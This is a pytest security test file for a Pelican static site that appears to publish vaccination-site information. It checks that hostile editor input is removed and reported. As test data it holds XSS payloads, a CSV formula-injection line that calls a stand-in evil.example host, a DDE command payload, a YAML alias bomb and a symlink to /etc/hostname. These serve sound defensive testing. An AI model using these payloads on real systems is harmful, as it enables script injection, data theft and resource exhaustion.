"""Nothing an editor types can attack a resident (issue 20): each test here failed before its fix."""

import csv
import io
import json
import re
import shutil
import subprocess
import sys

import pytest
from bs4 import BeautifulSoup

from conftest import ROOT, TODAY, run_pelican
from publish.validate import validate

HOSTILE = """\

点这里{: onerror="alert(1)" style="display:none" }

[官方通知](javascript:alert(2)) [引用链接][evil] [数据](data:text/html;base64,PHNjcmlwdD4=)

<script>alert(3)</script><img src=x onerror=alert(4)>

![别的网站的图](https://tracker.example.com/pixel.png)

[evil]: javascript:alert(5)
"""


@pytest.fixture
def project(tmp_path):
    """A copy of the content folder, to plant hostile Markdown in."""
    shutil.copytree(ROOT / "content", tmp_path / "content")
    return tmp_path


def build(project, **kwargs):
    return run_pelican(project / "out", extra=[f'PATH="{project / "content"}"', f'CACHE_PATH="{project / "cache"}"'], **kwargs)


def make_check(project):
    conf = project / "conf.py"
    conf.write_text(f"from pelicanconf import *\nPATH = {str(project / 'content')!r}\nSITES_TODAY = {TODAY!r}\n",
                    encoding="utf-8")
    return subprocess.run([sys.executable, "-m", "check", str(conf)], cwd=ROOT, capture_output=True, text=True,
                          env={"PYTHONPATH": str(ROOT / "plugins"), "PATH": ""})


def assert_harmless(html):
    """No script, no event handler, no style, no link that runs code, no image from elsewhere."""
    soup = BeautifulSoup(html, "html.parser")
    assert not soup.find_all(["script", "iframe", "object", "embed", "style"])
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on") and name.lower() != "style", (element.name, name)
            if name in ("href", "src"):
                assert not re.match(r"\s*(javascript|data|vbscript):", value, re.I), value
                assert "tracker.example.com" not in value


def test_hostile_markdown_in_an_faq_page_is_removed_and_explained(project):
    page = project / "content/faq/09-cold-or-fever.md"
    page.write_text(page.read_text(encoding="utf-8") + HOSTILE, encoding="utf-8")
    built = build(project)
    assert built.returncode == 0, built.stderr
    body = str(built.page("faq/cold-or-fever").select_one(".faq-body"))
    assert_harmless(body)
    assert "官方通知" in body and "点这里" in body  # the words stay, the attack goes
    assert "&lt;script&gt;" in body  # HTML an editor types is shown as text, not run
    first = len(page.read_text(encoding="utf-8").splitlines()) - len(HOSTILE.splitlines()) + 1
    check = make_check(project)
    for offset, words in ((1, "{: …}"), (3, "javascript:"), (3, "data:"), (5, "HTML 标签"), (7, "本站的图片"),
                          (9, "javascript:")):
        expected = f"09-cold-or-fever.md:{first + offset}: "
        assert any(line.strip().startswith(expected) and words in line for line in check.stderr.splitlines()), \
            (expected, words, check.stderr)
    # The build says the same.
    assert f"09-cold-or-fever.md:{first + 3}: " in built.stdout + built.stderr


def test_hostile_markdown_in_the_school_letter_is_removed_and_explained(project):
    letter = project / "content/schools/letter.md"
    letter.write_text(letter.read_text(encoding="utf-8") + HOSTILE, encoding="utf-8")
    built = build(project)
    assert built.returncode == 0, built.stderr
    assert_harmless(str(built.page("schools/maying-primary").select_one(".school-letter")))
    check = make_check(project)
    assert check.returncode == 0 and "letter.md:" in check.stderr and "javascript:" in check.stderr


def test_raw_html_in_a_page_is_removed_and_explained(project):
    about = project / "content/pages/about.md"
    about.write_text(about.read_text(encoding="utf-8") + HOSTILE + '\n<a href="javascript:alert(6)">点</a>\n',
                     encoding="utf-8")
    built = build(project)
    assert built.returncode == 0, built.stderr
    article = str(built.page("about").select_one("article"))
    assert_harmless(article)
    logged = built.stdout + built.stderr
    assert "about.md:" in logged and "HTML 标签" in logged
    check = make_check(project)
    assert "about.md:" in check.stderr and "HTML 标签" in check.stderr


def test_the_publish_check_refuses_a_link_that_runs_code(tmp_path):
    (tmp_path / "index.html").write_text(
        '<!DOCTYPE html><html lang="zh-CN"><head><title>x</title></head><body>'
        '<a href="java&#x09;script:alert(1)">a</a><img src="data:image/svg+xml,x" alt=""><a href="tel:120">ok</a>'
        '</body></html>', encoding="utf-8")
    problems = validate(tmp_path)
    assert len(problems) == 2 and all("不安全的链接" in p for p in problems)


def test_open_data_csv_never_carries_a_live_formula(build_with, sample_text):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'
    text = sample_text.replace("name: 通渭县疾病预防控制中心预防接种门诊", f"name: '{hostile}'", 1)
    text = text.replace("address: 平襄镇西大街（县疾控中心一楼）", "address: \"@SUM(1+1)*cmd|' /C calc'!A0\"", 1)
    built = build_with(text)
    assert built.returncode == 0, built.stderr
    rows = list(csv.DictReader(io.StringIO((built.output / "data/sites.csv").read_text(encoding="utf-8-sig"))))
    cdc = next(r for r in rows if r["id"] == "tw-cdc")
    assert cdc["name"] == "'" + hostile and cdc["address"].startswith("'@SUM")
    for row in rows:  # no cell of any row starts like a formula
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
    record = next(s for s in json.loads((built.output / "data/sites.json").read_text(encoding="utf-8"))["sites"]
                  if s["id"] == "tw-cdc")
    assert record["name"] == hostile  # the JSON is exact


# --- inputs that would exhaust the machine: refused with file:line, by make check and the build alike ---

LAUGHS = "\n".join(["county_note: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"] +
                   [f"x{i}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
                    f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]" for i in range(9)]) + "\n"


def hostile_sites(sample_text, kind):
    if kind == "aliases":
        return LAUGHS + sample_text.replace("county:\n", "county:\n  laughs: *j\n", 1), 1
    if kind == "deep-5000":
        return sample_text + "deep: " + "[" * 5000 + "]" * 5000 + "\n", len(sample_text.splitlines()) + 1
    if kind == "deep-100000":
        return sample_text + "deep:\n" + "".join("  " * min(i, 50) + "- \n" for i in range(2)) + "  " + "- " * 100000 + "x\n", \
            len(sample_text.splitlines()) + 4
    if kind == "long-latitude":
        text = sample_text.replace("location: {lat: 35.208132,", "location: {lat: " + "3" * 5001 + ",", 1)
        return text, sample_text[:sample_text.index("location: {lat: 35.208132,")].count("\n") + 1
    raise ValueError(kind)


@pytest.mark.parametrize("kind", ["aliases", "deep-5000", "deep-100000", "long-latitude"])
def test_a_file_that_would_exhaust_the_machine_is_refused_by_check_and_build_alike(tmp_path, sample_text, kind):
    text, line = hostile_sites(sample_text, kind)
    sites = tmp_path / "sites.yaml"
    sites.write_text(text, encoding="utf-8")
    built = run_pelican(tmp_path / "out", sites_file=sites)
    conf = tmp_path / "conf.py"
    conf.write_text(f"from pelicanconf import *\nSITES_FILE = {str(sites)!r}\nSITES_TODAY = {TODAY!r}\n", encoding="utf-8")
    checked = subprocess.run([sys.executable, "-m", "check", str(conf)], cwd=ROOT, capture_output=True, text=True,
                             env={"PYTHONPATH": str(ROOT / "plugins"), "PATH": ""}, timeout=120)
    for result in (built, checked):
        assert result.returncode != 0 and "Traceback" not in result.stderr + result.stdout
        assert f"sites.yaml:{line}: " in result.stderr, result.stderr[:2000]
        assert len(result.stderr) < 5000  # no value printed whole
    assert not (tmp_path / "out").exists()


def test_a_huge_figure_in_a_daily_report_is_refused_by_check_and_build_alike(tmp_path):
    folder = tmp_path / "progress"
    shutil.copytree(ROOT / "progress", folder)
    report = folder / "2026-11-28.csv"
    lines = report.read_text(encoding="utf-8-sig").splitlines()
    cells = lines[1].split(",")
    cells[3] = "9" * 400
    lines[1] = ",".join(cells)
    report.write_text("\ufeff" + "\n".join(lines) + "\n", encoding="utf-8")
    built = run_pelican(tmp_path / "out", extra=[f'PROGRESS_DIR="{folder}"'])
    conf = tmp_path / "conf.py"
    conf.write_text(f"from pelicanconf import *\nPROGRESS_DIR = {str(folder)!r}\nSITES_TODAY = {TODAY!r}\n", encoding="utf-8")
    checked = subprocess.run([sys.executable, "-m", "check", str(conf)], cwd=ROOT, capture_output=True, text=True,
                             env={"PYTHONPATH": str(ROOT / "plugins"), "PATH": ""})
    for result in (built, checked):
        assert result.returncode != 0 and "Traceback" not in result.stderr
        assert "2026-11-28.csv:2: " in result.stderr and "数字太大了（400 位）" in result.stderr


# --- near-duplicates and collisions ----------------------------------------------------------

def both(tmp_path, sites=None, content=None):
    """The build and make check on the same input."""
    extra = [f'PATH="{content}"'] if content else []
    built = run_pelican(tmp_path / "out", sites_file=sites or ROOT / "sites.yaml", extra=extra)
    conf = tmp_path / "conf.py"
    conf.write_text(f"from pelicanconf import *\nSITES_FILE = {str(sites or ROOT / 'sites.yaml')!r}\nSITES_TODAY = {TODAY!r}\n"
                    + (f"PATH = {str(content)!r}\n" if content else ""), encoding="utf-8")
    checked = subprocess.run([sys.executable, "-m", "check", str(conf)], cwd=ROOT, capture_output=True, text=True,
                             env={"PYTHONPATH": str(ROOT / "plugins"), "PATH": ""})
    return built, checked


def test_an_id_that_differs_only_by_a_space_is_a_duplicate(tmp_path, sample_text):
    sites = tmp_path / "sites.yaml"
    sites.write_text(sample_text.replace("  - id: pingxiang-whc\n", '  - id: "tw-cdc "\n', 1), encoding="utf-8")
    line = sample_text[:sample_text.index("  - id: pingxiang-whc\n")].count("\n") + 1
    for result in both(tmp_path, sites=sites):
        assert result.returncode != 0 and "Traceback" not in result.stderr
        assert f"sites.yaml:{line}: " in result.stderr and "编号「tw-cdc」与第" in result.stderr


@pytest.mark.parametrize("where, text, clash", [
    ("faq/09-cold-or-fever.md", ("Slug: cold-or-fever", "Slug: glossary"), "名词解释页"),
    ("pages/about.md", ("Slug: about", "Slug: sites"), "全部接种点页"),
])
def test_a_slug_that_names_a_generated_page_is_refused_before_anything_is_written(project, where, text, clash):
    page = project / "content" / where
    page.write_text(page.read_text(encoding="utf-8").replace(*text), encoding="utf-8")
    line = next(n for n, row in enumerate(page.read_text(encoding="utf-8").splitlines(), 1) if row.startswith("Slug:"))
    built, checked = both(project, content=project / "content")
    for result in (built, checked):
        assert result.returncode != 0 and "Traceback" not in result.stderr, result.stderr
        assert f"{page.name}:{line}: " in result.stderr and clash in result.stderr and "同一个文件" in result.stderr
    assert not (project / "out" / "index.html").exists()


# --- what the build trusts: links out of the project, and the cache --------------------------

def test_a_link_out_of_the_project_is_refused(project):
    (project / "content" / "pages" / "secret.md").symlink_to("/etc/hostname")
    built, checked = both(project, content=project / "content")
    for result in (built, checked):
        assert result.returncode != 0 and "Traceback" not in result.stderr
        assert "content/pages/secret.md" in result.stderr and "指向项目以外（/etc/hostname）的链接" in result.stderr
    assert not (project / "out").exists()


def test_a_cache_others_may_write_to_is_not_used(tmp_path):
    cache = tmp_path / "shared-cache"
    cache.mkdir()
    cache.chmod(0o777)
    built = run_pelican(tmp_path / "out", extra=[f'CACHE_PATH="{cache}"'])
    assert built.returncode == 0, built.stderr
    assert "缓存文件夹不安全" in " ".join((built.stdout + built.stderr).split())
    assert list(cache.iterdir()) == []  # nothing read from it, nothing written to it
    cache.chmod(0o755)
    built = run_pelican(tmp_path / "out2", extra=[f'CACHE_PATH="{cache}"'])
    assert built.returncode == 0 and "缓存文件夹不安全" not in built.stdout + built.stderr
    # Entries are kept per project (by its folder), so projects sharing a CACHE_PATH never mix.
    assert [p.name for p in (cache / "county-model").iterdir()] == [p.name for p in (cache / "qr-letters").iterdir()]
    assert len(list((cache / "qr-letters").iterdir())) == 1
